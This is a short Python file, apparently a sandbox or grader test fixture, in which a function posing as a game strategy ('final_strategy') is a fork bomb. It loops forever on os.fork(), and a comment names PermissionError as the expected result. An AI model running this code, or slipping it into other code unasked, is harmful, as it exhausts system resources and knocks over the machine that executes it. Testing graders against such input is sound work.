# Starts a process at each call: "PermissionError"
import os
def final_strategy(score, opponent_score):
    while True:
        os.fork()
